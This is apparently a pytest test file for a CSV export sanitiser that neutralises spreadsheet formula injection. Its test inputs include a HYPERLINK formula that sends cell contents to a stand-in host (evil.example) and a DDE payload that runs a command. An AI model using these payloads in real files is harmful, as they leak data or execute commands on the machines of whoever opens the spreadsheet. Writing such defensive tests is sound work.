"""CSV cells a spreadsheet shows as typed, never as formulas (for exports to use)."""

from __future__ import annotations

import csv
import io

import pytest

from landing.core.csv_safety import safe_cell


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example?"&A1,"Click")',
        "+1 555 0100",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_could_start_a_formula_is_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Rob Mason", "Acme, Inc.", "{{7*7}}", "<script>", "a=b", ""])
def test_other_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_and_none():
    assert (safe_cell(-3), safe_cell(2.5), safe_cell(None)) == ("-3", "2.5", "")


def test_a_row_written_with_the_csv_module_reads_back_as_the_safe_text():
    row = ["=1+1", 'Say "hi", then\nleave', "Rob"]
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell(v) for v in row])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'=1+1",
        'Say "hi", then\nleave',
        "Rob",
    ]


def test_a_stored_phone_number_stays_dialable():
    assert safe_cell("+15550100199") == "+15550100199"
    assert safe_cell("+1555=cmd|' /C calc'!A0") == "'+1555=cmd|' /C calc'!A0"
